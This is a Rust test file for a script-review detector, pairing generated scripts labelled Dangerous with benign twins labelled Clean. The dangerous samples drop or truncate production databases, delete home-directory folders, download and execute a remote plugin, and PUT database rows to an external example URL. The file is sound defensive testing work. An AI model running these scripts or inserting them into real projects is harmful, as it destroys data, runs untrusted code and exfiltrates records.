//! Sinks and value shapes the review lost on scripts nobody tuned it to (issue 17, blind32's dev
//! half): the SQL client a database server ships as a subcommand (`cockroach sql -e`,
//! `clickhouse client --query`) or as its own binary (`clickhouse-client`, `ysqlsh`); a function
//! a `threading.Timer` or an event loop's `call_later` runs with arguments; a module loaded from
//! a path a helper returns as one of several files (the project's own or one it downloaded); an
//! object of functions declared `as const` or `satisfies T` in TypeScript. Each row has its twin:
//! the same shape on the project's own files, a loopback database or a table's rows stays clean.

use terraphim_script_review::Language;
use terraphim_script_review::Verdict::{Clean, Dangerous};

use crate::rows;

use Language::{JavaScript as Js, Python as Py, TypeScript as Ts};

/// A TypeScript reset tool whose overload runs `cockroach sql -e STATEMENT` on every target of
/// a table (`purge(target)`), with the statement and host built from the target's fields.
fn sql_reset(program: &str, sub: &str, opt: &str, hosts: &[&str], statement: &str) -> String {
    let mut code = String::from(
        "import { execFileSync } from \"node:child_process\";\n\ninterface Target { host: string; database: string; }\n\nconst ENVIRONMENTS: Target[] = [\n",
    );
    for (i, h) in hosts.iter().enumerate() {
        code.push_str(&format!(
            "  {{ host: \"{h}\", database: \"ledger_{i}\" }},\n"
        ));
    }
    code.push_str(&format!(
        "];\n\nfunction purge(database: string): void;\nfunction purge(target: Target): void;\nfunction purge(arg: string | Target): void {{\n  const target: Target = typeof arg === \"string\" ? {{ host: \"localhost:26257\", database: arg }} : arg;\n  execFileSync(\"{program}\", [{sub}`--host=${{target.host}}`, \"{opt}\", `{statement}`], {{ stdio: \"inherit\" }});\n}}\n\nfor (const target of ENVIRONMENTS) purge(target);\n"
    ));
    code
}

#[test]
fn a_server_s_own_sql_client_runs_what_it_is_given() {
    let prod = ["localhost:26257", "crdb-prod.internal:26257"];
    let local = ["localhost:26257", "127.0.0.1:26257"];
    let drop = "DROP DATABASE IF EXISTS ${target.database} CASCADE;";
    let truncate = "TRUNCATE TABLE ${target.database}.entries;";
    let select = "SELECT count(*) FROM ${target.database}.entries;";
    rows(&[
        (
            Ts,
            sql_reset("cockroach", "\"sql\", ", "-e", &prod, drop),
            Dangerous,
            "destructive",
        ),
        (
            Ts,
            sql_reset("clickhouse-client", "", "--query", &prod, truncate),
            Dangerous,
            "destructive",
        ),
        (
            Ts,
            sql_reset("clickhouse", "\"client\", ", "-q", &local, drop),
            Dangerous,
            "destructive",
        ),
        // Twins: the rows of tables on this machine emptied (a test reset), or a read.
        (
            Ts,
            sql_reset("cockroach", "\"sql\", ", "-e", &local, truncate),
            Clean,
            "",
        ),
        (
            Ts,
            sql_reset("cockroach", "\"sql\", ", "-e", &prod, select),
            Clean,
            "",
        ),
    ]);
}

/// `threading.Timer(delay, f, args=(dirs,))` runs `f(dirs)` on a thread of its own.
fn timer_clear(legacy: &str, call: &str) -> String {
    format!(
        "import os\nimport shutil\nimport threading\nfrom pathlib import Path\n\nSCRATCH = {{\n    \"verifier\": \"build/check-tmp\",\n    \"legacy\": \"{legacy}\",\n}}\n\n\ndef scratch_dirs(table=SCRATCH):\n    return [Path(os.path.expanduser(raw)) for raw in table.values()]\n\n\ndef clear_scratch(paths):\n    for path in paths:\n        shutil.rmtree(path, ignore_errors=True)\n\n\n{call}\n"
    )
}

#[test]
fn a_timer_or_an_event_loop_runs_the_function_it_is_given() {
    let timer = "timer = threading.Timer(3.0, clear_scratch, args=(scratch_dirs(),))\ntimer.start()\ntimer.join()";
    let named = "threading.Timer(1, function=clear_scratch, args=[scratch_dirs()]).start()";
    let later = "import asyncio\n\nloop = asyncio.new_event_loop()\nloop.call_later(2.0, clear_scratch, scratch_dirs())\nloop.run_until_complete(asyncio.sleep(3))";
    let mut table = Vec::new();
    for call in [timer, named, later] {
        table.push((Py, timer_clear("~/ROMs", call), Dangerous, "destructive"));
        table.push((Py, timer_clear("build/snap", call), Clean, ""));
    }
    rows(&table);
}

/// A plugin index of project files and URLs; `fetch` returns the project file as it is or
/// the downloaded copy, and `load` runs the module from whichever it got. The twin copies its
/// second entry from the project (a plugin kept in a shared folder of the repository).
const DOWNLOAD: &str = "    with urllib.request.urlopen(location, timeout=20) as resp:\n        target.write_bytes(resp.read())\n";
const COPY: &str = "    shutil.copy(location, target)\n";

fn plugin_loader(entries: &[&str], fetch: &str) -> String {
    let mut code = String::from(
        "import importlib.util\nimport shutil\nimport tempfile\nimport urllib.request\nfrom pathlib import Path\n\nROOT = Path(__file__).resolve().parent\nINDEX = {\n",
    );
    for (i, e) in entries.iter().enumerate() {
        code.push_str(&format!("    \"p{i}\": {e},\n"));
    }
    code.push_str("}\n\n\ndef fetch(location, workdir):\n    if isinstance(location, Path):\n        return location\n    target = Path(workdir) / \"plugin.py\"\n");
    code.push_str(fetch);
    code.push_str("    return target\n\n\ndef load(name, location, workdir):\n    path = fetch(location, workdir)\n    spec = importlib.util.spec_from_file_location(f\"plugin_{name}\", path)\n    module = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(module)\n    return module\n\n\nworkdir = tempfile.mkdtemp()\nfor name, location in INDEX.items():\n    load(name, location, workdir)\n");
    code
}

#[test]
fn a_module_loaded_from_any_of_a_helper_s_paths() {
    rows(&[
        (
            Py,
            plugin_loader(
                &[
                    "ROOT / \"plugins\" / \"thumbs.py\"",
                    "\"https://hooks.example.org/plugins/chapters.py\"",
                ],
                DOWNLOAD,
            ),
            Dangerous,
            "remote-code",
        ),
        (
            Py,
            plugin_loader(
                &[
                    "ROOT / \"plugins\" / \"thumbs.py\"",
                    "str(ROOT / \"shared\" / \"chapters.py\")",
                ],
                COPY,
            ),
            Clean,
            "",
        ),
    ]);
}

/// A table of functions declared `as const` (or `satisfies`), called by a key of the table.
fn const_table(home_dir: &str, suffix: &str) -> String {
    format!(
        "import {{ rmSync }} from \"node:fs\";\nimport os from \"node:os\";\nimport path from \"node:path\";\n\nconst ROOT = path.resolve(__dirname, \"..\");\nconst CACHE_DIRS = {{\n  hashes: () => path.join(ROOT, \"build\", \"hash-cache\"),\n  states: () => {home_dir},\n}}{suffix};\n\ntype Kind = keyof typeof CACHE_DIRS;\n\nfunction clear(kinds: Kind[]): void {{\n  for (const kind of kinds) {{\n    const dir = CACHE_DIRS[kind]();\n    rmSync(dir, {{ recursive: true, force: true }});\n  }}\n}}\n\nconst [kind] = process.argv.slice(2);\nclear(kind ? [kind as Kind] : (Object.keys(CACHE_DIRS) as Kind[]));\n"
    )
}

#[test]
fn an_object_of_functions_declared_as_const() {
    let home = "path.join(os.homedir(), \"RetroArch\", \"roms\")";
    let own = "path.join(ROOT, \"build\", \"states\")";
    let mut table = Vec::new();
    for suffix in [" as const", " satisfies Record<string, () => string>"] {
        table.push((Ts, const_table(home, suffix), Dangerous, "destructive"));
        table.push((Ts, const_table(own, suffix), Clean, ""));
    }
    // JavaScript has no `as const`: the same table, plain, as before.
    let js = |d: &str| {
        const_table(d, "")
            .replace("type Kind = keyof typeof CACHE_DIRS;\n\n", "")
            .replace("kinds: Kind[]): void", "kinds)")
            .replace("kind as Kind", "kind")
            .replace(
                "(Object.keys(CACHE_DIRS) as Kind[])",
                "Object.keys(CACHE_DIRS)",
            )
    };
    table.push((Js, js(home), Dangerous, "destructive"));
    table.push((Js, js(own), Clean, ""));
    rows(&table);
}

/// A sample of a table read with `cockroach sql --format=csv -e SELECT ...` and sent as a
/// request's body (`Reflect.apply(https.request, ...)`, then `req.end(csv)`) to `url`.
fn table_sample(url: &str) -> String {
    format!(
        "import {{ execFileSync }} from \"node:child_process\";\nimport https from \"node:https\";\n\nfunction sql(query: string): string {{\n  return execFileSync(\"cockroach\", [\"sql\", \"--insecure\", \"--host=localhost:26257\", \"-d\", \"ledger_dev\", \"--format=csv\", \"-e\", query], {{ encoding: \"utf8\" }});\n}}\n\nfor (const table of [\"accounts\", \"entries\"]) {{\n  const raw = sql(`SELECT * FROM ${{table}} LIMIT 5000`);\n  const req = Reflect.apply(https.request, https, [`{url}/${{table}}`, {{ method: \"PUT\" }}]);\n  req.end(raw);\n}}\n"
    )
}

#[test]
fn what_a_database_client_prints_is_the_database_s_data() {
    rows(&[
        (
            Ts,
            table_sample("https://sandbox-catalogue.example.net/v1/datasets"),
            Dangerous,
            "exfiltration",
        ),
        // Twin: the sample goes to a catalogue on this machine.
        (
            Ts,
            table_sample("http://localhost:8080/v1/datasets"),
            Clean,
            "",
        ),
    ]);
}
